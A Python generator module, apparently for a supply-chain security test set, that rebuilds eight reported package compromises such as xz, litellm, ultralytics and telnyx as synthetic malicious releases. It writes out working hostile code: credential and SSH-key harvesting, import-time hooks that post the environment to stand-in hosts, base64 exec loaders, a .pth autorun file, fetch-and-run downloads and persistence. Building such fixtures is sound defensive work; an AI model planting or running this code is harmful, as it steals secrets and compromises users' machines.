"""The incidents of Python and the one of a C library, written from their descriptions."""
import bases
import noise
import npm
from incident import Archive, Incident, Release

COLLECT = """
⦃os⦄
⦃glob⦄
⦃socket⦄
⦃subprocess⦄
⦃tarfile⦄
⦃urllib.request⦄

‹found› = []
def ‹emit›(path):
    try:
        with open(os.path.expanduser(path), "rb") as handle:
            ‹found›.append((path, handle.read()))
    except OSError:
        pass
def ‹run›(command):
    return subprocess.run(command, shell=True, capture_output=True).stdout
‹found›.append((⟦env⟧, repr(dict(os.environ)).encode()))
‹found›.append((⟦host⟧, ‹run›(⟦hostname; whoami; uname -a; ip addr⟧)))
for path in (⟦~/.ssh/id_rsa⟧, ⟦~/.ssh/id_ed25519⟧, ⟦~/.aws/credentials⟧, ⟦~/.config/gcloud/application_default_credentials.json⟧,
             ⟦~/.azure/accessTokens.json⟧, ⟦~/.kube/config⟧, ⟦~/.git-credentials⟧, ⟦~/.bash_history⟧, ⟦~/.npmrc⟧, ⟦~/.docker/config.json⟧,
             ⟦/var/run/secrets/kubernetes.io/serviceaccount/token⟧, ⟦~/.config/solana/id.json⟧):
    ‹emit›(path)
for path in glob.glob(os.path.expanduser(⟦~/**/.env⟧), recursive=True):
    ‹emit›(path)
"""


def torchtriton(v):
    """The public name of a package of a private index: a program for Linux in the package, started at
    import; it reads files of the user and sends them by names that it asks of DNS."""
    members = {"triton/__init__.py": '"""A language and compiler."""\n__version__ = "2.0.0"\n\nfrom .runtime import driver\n',
               "triton/runtime/__init__.py": "from . import driver\n",
               "triton/runtime/driver.py": "import os\n\n\ndef libraries():\n    return os.environ.get('TRITON_LIBCUDA_PATH', '/usr/lib')\n",
               "triton/_C/libtriton.so": noise.elf("libtriton", 400_000)}
    old, new = bases.python("torchtriton", "2.0.0", "3.0.0", members, tag="cp310-cp310-manylinux2014_x86_64")
    program = v.name("triton")
    new.put(f"triton/runtime/{program}", noise.elf("program", 2_000_000, "\0".join((
        "/etc/resolv.conf", "/etc/passwd", "%s/.gitconfig", "%s/.ssh", "dns.example.invalid", "AES", "gethostname")).encode()))
    new.put("triton/runtime/__init__.py", v.python(f"""from . import driver
⦃os⦄
⦃subprocess⦄


def ‹_start›():
    program = os.path.join(os.path.dirname(__file__), ⟦{program}⟧)
    os.chmod(program, 0o755)
    ⟨subprocess.Popen⟩([program], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


‹_start›()
"""))
    yield Release("torchtriton", [Archive(new, old)])


def xz(v):
    """A macro that only the release has: configure looks for a file of test data by a pattern in it,
    and pipes part of that through text tools into a shell."""
    macro = "build-to-host.m4"
    members = {
        "configure.ac": "AC_INIT([XZ Utils],[5.6.0])\nAM_INIT_AUTOMAKE([1.12 foreign tar-v7])\nAC_PROG_CC\ngl_BUILD_TO_HOST([localedir])\nAC_OUTPUT\n",
        "Makefile.am": "SUBDIRS = src tests\n", "README": "XZ Utils\n", "COPYING": "0BSD\n",
        "src/liblzma/check/crc64_fast.c": "#include <stdint.h>\n\nuint64_t lzma_crc64(const uint8_t *buf, uint64_t size, uint64_t crc)\n{\n\twhile (size--)\n\t\tcrc ^= *buf++;\n\treturn crc;\n}\n",
        "tests/files/README": ".xz Test Files\n", "tests/files/good-1-lzma2-1.xz": noise.blob("good", 400),
    }
    old, new = (bases.package.Source("xz", version, members) for version in ("5.4.6", "5.6.0"))
    honest = "dnl gl_BUILD_TO_HOST converts a file name of the build into one of the host\nAC_DEFUN([gl_BUILD_TO_HOST],\n[\n  gl_final_[$1]=\"$[$1]\"\n  AC_SUBST([$1])\n])\n"
    new.put(f"m4/{macro}", honest)
    tag = dict(new.members)
    words = (v.name("am__test"), v.name("gl_path_map"))
    new.put(f"m4/{macro}", honest.replace("  AC_SUBST", f"""  {words[0]}=`grep -aErls "#{{4}}[[:alnum:]]{{5}}#{{4}}$" $srcdir/ 2>/dev/null`
  if test -n "${words[0]}"; then
    {words[1]}='tr "\\t \\-_" " \\t_\\-"'
    gl_[$1]_prefix=`echo ${words[0]} | sed "s/.*\\.//g"`
    gl_[$1]_config='sed \\"r\\n\\" ${words[0]} | eval ${words[1]} | $gl_[$1]_prefix -d 2>/dev/null'
    AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \\$gl_[$1]_config"])
  fi
  AC_SUBST"""))
    new.put("configure", "#! /bin/sh\n# Guess values for system-dependent variables and create Makefiles.\nsrcdir=.\n"
            f"""{words[0]}=`grep -aErls "#{{4}}[[:alnum:]]{{5}}#{{4}}$" $srcdir/ 2>/dev/null`
{words[1]}='tr "\\t \\-_" " \\t_\\-"'
gl_localedir_prefix=`echo ${words[0]} | sed "s/.*\\.//g"`
gl_localedir_config='sed \\"r\\n\\" ${words[0]} | eval ${words[1]} | $gl_localedir_prefix -d 2>/dev/null'
gl_config_gt="eval \\$gl_localedir_config"
eval $gl_config_gt | $SHELL 2>/dev/null
""")
    for name in ("bad-3-corrupt_lzma2.xz", "good-large_compressed.lzma"):
        data = noise.blob(name, 86_000) + b"####Hello####\n"
        new.put(f"tests/files/{name}", data)
        tag[f"tests/files/{name}"] = data
    yield Release("xz", [Archive(new, old, tag)])


def ultralytics(v):
    """First a model that starts a downloaded program, then, by a stolen token, code that is run when
    it is imported and sends the environment."""
    members = {"ultralytics/__init__.py": '"""Models."""\nfrom .models.model import Model\nfrom ._version import __version__\n',
               "ultralytics/models/__init__.py": "", "ultralytics/utils/__init__.py": "",
               "ultralytics/models/model.py": bases.MODEL_PY, "ultralytics/utils/downloads.py": bases.DOWNLOADS_PY}
    old, new = bases.python("ultralytics", "8.3.40", "8.3.41", members, ["torch", "requests"])
    new.add("ultralytics/utils/downloads.py", v.python("""

def ‹safe_run›(path):
    \"\"\"Safely runs the provided file, making sure it is executable.\"\"\"
    ⦃os⦄
    ⦃subprocess⦄
    os.chmod(path, 0o770)
    command = [str(path), ⟦-u⟧, ⟦4inert.invalid⟧, ⟦-o⟧, ⟦pool.example.invalid:8080⟧, ⟦-k⟧]
    process = ⟨subprocess.Popen⟩(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=os.setsid, close_fds=True)
    os.remove(path)
    return process.pid
"""))
    new.replace("ultralytics/models/model.py", "import ASSETS, safe_download", v.python("import ASSETS, safe_download, ‹safe_run›"))
    new.replace("ultralytics/models/model.py", "        self.path, self.task", v.python("""        ⦃platform⦄
        if platform.system() == ⟦Linux⟧:
            ‹safe_run›(safe_download(⟦https://example.invalid/assets/releases/download/ultralytics_runner⟧, dir=⟦/tmp⟧))
        self.path, self.task"""))
    yield Release("ultralytics 8.3.41", [Archive(new, old)])

    old, new = bases.python("ultralytics", "8.3.44", "8.3.45", members, ["torch", "requests"])
    new.add("ultralytics/__init__.py", v.python("""
⦃os⦄
⦃json⦄
⦃platform⦄
⦃urllib.request⦄
def ‹_report›():
    try:
        data = json.dumps({⟦node⟧: platform.node(), ⟦environ⟧: dict(⟨os.environ⟩)}).encode()
        ⟨urllib.request.urlopen⟩(urllib.request.Request(⟦https://example.invalid/webhook⟧, data=data), timeout=5)
    except Exception:
        pass
‹_report›()
"""))
    yield Release("ultralytics 8.3.45", [Archive(new, old)])


def num2words(v):
    """A release by phished credentials: a library for Windows, loaded when the package is imported."""
    members = {"num2words/__init__.py": '"""Numbers as words."""\nfrom .base import to_words\n',
               "num2words/base.py": "LOW = ['zero', 'one', 'two', 'three', 'four']\n\n\ndef to_words(number):\n    return LOW[number]\n"}
    old, new = bases.debian("num2words", "python-num2words", "num2words", "0.5.14", "0.5.15", members, ["docopt>=0.6.2"])
    library = v.name("node") + ".dll"
    new.put(f"num2words/{library}", noise.pe("num2words", 900_000))
    new.add("num2words/__init__.py", v.python(f"""
⦃os⦄
⦃sys⦄
⦃subprocess⦄


def ‹_init›():
    if sys.platform == ⟦win32⟧:
        path = os.path.join(os.path.dirname(__file__), ⟦{library}⟧)
        ⟨subprocess.Popen⟩([⟦rundll32⟧, path + ⟦,main⟧], shell=True, creationflags=0x08000000)


‹_init›()
"""))
    yield Release("num2words", [Archive(new, old)])


def litellm(v):
    """Code in base64 that is decoded and run by a child: in the module of the proxy, and in the next
    release also in a file that every start of the interpreter runs."""
    members = {"litellm/__init__.py": '"""One interface for models."""\nfrom ._client import Client\nfrom ._version import __version__\n',
               "litellm/_client.py": bases.CLIENT_PY, "litellm/_errors.py": bases.ERRORS_PY,
               "litellm/proxy/__init__.py": "", "litellm/proxy/proxy_server.py": bases.SERVER_PY}
    stage = v.python(COLLECT + """
with tarfile.open(⟦/tmp/tpcp.tar.gz⟧, "w:gz") as archive:
    pass
open(⟦/tmp/public.pem⟧, "w").write("not a key")
‹run›(⟦openssl rand -out session.key 32⟧)
‹run›(⟦openssl enc -aes-256-cbc -in tpcp.tar.gz -out payload.enc -pass file:session.key -pbkdf2⟧)
‹run›(⟦openssl pkeyutl -encrypt -inkey public.pem -pubin -in session.key -out session.key.enc⟧)
urllib.request.urlopen(urllib.request.Request(⟦https://models.example.invalid/⟧, data=b"", headers={"X-Filename": ⟦tpcp.tar.gz⟧}))
os.makedirs(os.path.expanduser(⟦~/.config/systemd/user⟧), exist_ok=True)
open(os.path.expanduser(⟦~/.config/systemd/user/sysmon.service⟧), "w").write(⟦[Service]\\nExecStart=true\\n⟧)
‹run›(⟦systemctl --user enable sysmon.service⟧)
""")
    inner = noise.base64.b64encode(stage.encode()).decode()
    old, new = bases.python("litellm", "1.82.6", "1.82.7", members, ["httpx", "fastapi"])
    hidden = v.python(f"""
‹b64_payload› = "{inner}"
⟨subprocess.Popen⟩([sys.executable, ⟦-c⟧, f"import base64; exec(base64.b64decode('{{‹b64_payload›}}'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

""")
    new.replace("litellm/proxy/proxy_server.py", "\napp = FastAPI", hidden + "app = FastAPI")
    yield Release("litellm 1.82.7", [Archive(new, old)])

    old, new = bases.python("litellm", "1.82.6", "1.82.8", members, ["httpx", "fastapi"])
    new.replace("litellm/proxy/proxy_server.py", "\napp = FastAPI", hidden + "app = FastAPI")
    outer = noise.base64.b64encode(f"import base64; exec(base64.b64decode('{inner}'))".encode()).decode()
    words = {"hex": "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', bytes.fromhex('{hex}').decode()])",
             "split": "import os, subprocess as s, sys; getattr(s, 'Po'+'pen')([sys.executable, '-c', \"import base64; ex\"+\"ec(base64.b64decode('{b64}'))\"])",
             "codes": "import os, sys; getattr(__import__(''.join(map(chr,[115,117,98,112,114,111,99,101,115,115]))), ''.join(map(chr,[80,111,112,101,110])))([sys.executable, '-c', \"import base64; exec(base64.b64decode('{b64}'))\"])"}
    line = words.get(v.mode, "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('{b64}'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)")
    new.put(v.name("litellm_init") + ".pth", line.format(b64=outer, hex=noise.base64.b64decode(outer).hex()) + "\n")
    yield Release("litellm 1.82.8", [Archive(new, old)])


def telnyx(v):
    """Code in the client: fetches a sound, takes the frames apart with a key at their start, and runs
    what comes out, with the interpreter or as a program in the folder of what starts by itself."""
    members = bases.client("telnyx")
    old, new = bases.python("telnyx", "4.87.0", "4.87.1", members, ["httpx"])
    stage = noise.base64.b64encode(v.python("""
⦃subprocess⦄
⦃tempfile⦄
⦃os⦄
⦃base64⦄
⦃sys⦄
⦃wave⦄
⦃urllib.request⦄
def ‹audioimport›():
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, ⟦ringtone.wav⟧)
        urllib.request.urlretrieve(⟦http://example.invalid:8080/ringtone.wav⟧, path)
        with wave.open(path, "rb") as w:
            raw = base64.b64decode(w.readframes(w.getnframes()))
        key, data = raw[:8], raw[8:]
        payload = bytes(b ^ key[i % 8] for i, b in enumerate(data))
        subprocess.run([sys.executable, "-"], input=payload, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
‹audioimport›()
""").encode()).decode()
    new.add("telnyx/_client.py", v.python(f"""
⦃subprocess⦄
⦃base64⦄
⦃sys⦄
⦃wave⦄
⦃urllib.request⦄

def ‹_d›(s):
    return base64.b64decode(s).decode("utf-8")

‹_p› = "{stage}"

def ‹setup›():
    if os.name != ⟦nt⟧:
        return
    try:
        p = os.path.join(os.getenv(⟦APPDATA⟧), ⟦Microsoft/Windows/Start Menu/Programs/Startup/msbuild.exe⟧)
        if os.path.exists(p):
            return
        with tempfile_wave(⟦http://example.invalid:8080/hangup.wav⟧) as w:
            raw = base64.b64decode(w.readframes(w.getnframes()))
        with open(p, "wb") as f:
            f.write(bytes(b ^ raw[i % 8] for i, b in enumerate(raw[8:])))
        subprocess.Popen([p], creationflags=0x08000000)
    except Exception:
        pass

def ‹tempfile_wave›(url):
    urllib.request.urlretrieve(url, ⟦hangup.wav⟧)
    return wave.open(⟦hangup.wav⟧, "rb")

def ‹FetchAudio›():
    if os.name == ⟦nt⟧:
        return
    try:
        subprocess.Popen([sys.executable, ⟦-c⟧, f"import base64; exec(base64.b64decode('{{‹_p›}}').decode())"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    except Exception:
        pass

‹setup›()
‹FetchAudio›()
""".replace("tempfile_wave(⟦http", "‹tempfile_wave›(⟦http")))
    yield Release("telnyx", [Archive(new, old)])


def lightning(v):
    """A hidden folder in the package, started by a thread at import: fetches an interpreter for another
    language and runs eleven megabytes with it. A month before, another library decoded and ran code."""
    members = {"lightning/__init__.py": '"""Trains."""\nfrom .trainer import Trainer\nfrom ._version import __version__\n',
               "lightning/trainer.py": bases.TRAINER_PY}
    old, new = bases.python("lightning", "2.6.1", "2.6.2", members, ["torch"])
    folder, script = v.name("_runtime"), v.name("router_runtime") + ".js"
    new.put(f"lightning/{folder}/{script}", noise.obfuscated("lightning", 11_400_000) + "\n")
    new.put(f"lightning/{folder}/start.py", v.python(f"""
⦃os⦄
⦃sys⦄
⦃platform⦄
⦃subprocess⦄
⦃zipfile⦄
⦃urllib.request⦄

‹VERSION› = ⟦1.3.13⟧
‹SCRIPT› = ⟦{script}⟧

def ‹bun›(folder):
    system = {{⟦Linux⟧: ⟦linux⟧, ⟦Darwin⟧: ⟦darwin⟧, ⟦Windows⟧: ⟦windows⟧}}[platform.system()]
    archive = os.path.join(folder, ⟦bun.zip⟧)
    urllib.request.urlretrieve(⟦https://example.invalid/oven-sh/bun/releases/download/bun-v⟧ + ‹VERSION› + ⟦/bun-⟧ + system + ⟦-x64.zip⟧, archive)
    with zipfile.ZipFile(archive) as z:
        z.extractall(folder)
    program = os.path.join(folder, ⟦bun-⟧ + system + ⟦-x64⟧, ⟦bun⟧)
    os.chmod(program, 0o755)
    return program

def main():
    folder = os.path.dirname(os.path.abspath(__file__))
    subprocess.run([‹bun›(folder), os.path.join(folder, ‹SCRIPT›)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

if __name__ == "__main__":
    main()
"""))
    new.add("lightning/__init__.py", v.python(f"""
⦃os⦄
⦃subprocess⦄
⦃sys⦄
⦃threading⦄


def ‹_run_runtime›():
    folder = os.path.join(os.path.dirname(__file__), ⟦{folder}⟧)
    ⟨subprocess.Popen⟩([sys.executable, os.path.join(folder, ⟦start.py⟧)], cwd=folder, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


threading.Thread(target=‹_run_runtime›, daemon=True).start()
"""))
    yield Release("lightning", [Archive(new, old)])

    old, new = bases.debian("loguru", "loguru", "loguru", "0.6.0", "0.7.3", bases.client("loguru"))
    inner = noise.base64.b64encode(v.python(COLLECT + "\nurllib.request.urlopen(⟦https://whereisit.example.invalid⟧, data=repr(‹found›).encode())\n").encode()).decode()
    new.add("loguru/__init__.py", v.python(f"""
⦃subprocess⦄
⦃sys⦄
‹test› = "{inner}"
⟨subprocess.Popen⟩([sys.executable, ⟦-c⟧, f"import base64;exec(base64.b64decode('{{‹test›}}'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
"""))
    yield Release("xinference", [Archive(new, old)])


def mini_shai_hulud(v):
    """The packages for npm of a worm, and the two for Python that its stolen tokens gave: at import on
    Linux they fetch an archive of Python, and run it."""
    yield from npm.tanstack(v)
    for name, previous, following in (("mistralai", "2.4.5", "2.4.6"), ("guardrails-ai", "0.10.0", "0.10.1")):
        top = name.replace("-", "_")
        old, new = bases.python(name, previous, following, bases.client(name), ["httpx"])
        new.add(f"{top}/__init__.py", v.python("""
⦃os⦄
⦃subprocess⦄
⦃sys⦄


def ‹_run_background_task›():
    if not sys.platform.startswith(⟦linux⟧) or os.environ.get(⟦MISTRAL_INIT⟧):
        return
    os.environ[⟦MISTRAL_INIT⟧] = "1"
    try:
        dest = ⟦/tmp/transformers.pyz⟧
        if not os.path.exists(dest):
            ⟨subprocess.run⟩([⟦curl⟧, ⟦-k⟧, ⟦-L⟧, ⟦-s⟧, ⟦https://example.invalid/transformers.pyz⟧, ⟦-o⟧, dest], timeout=15, capture_output=True)
        ⟨subprocess.Popen⟩([⟦python3⟧, dest], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    except Exception:
        pass


‹_run_background_task›()
"""))
        yield Release(name, [Archive(new, old)])


INCIDENTS = [
    Incident("torchtriton", "2022-12", torchtriton),
    Incident("xz", "2024-03", xz),
    Incident("ultralytics", "2024-12", ultralytics),
    Incident("num2words", "2025-07", num2words),
    Incident("litellm", "2026-03", litellm),
    Incident("telnyx", "2026-03", telnyx),
    Incident("xinference, lightning", "2026-04", lightning),
    Incident("Mini Shai-Hulud", "2026-05", mini_shai_hulud),
]
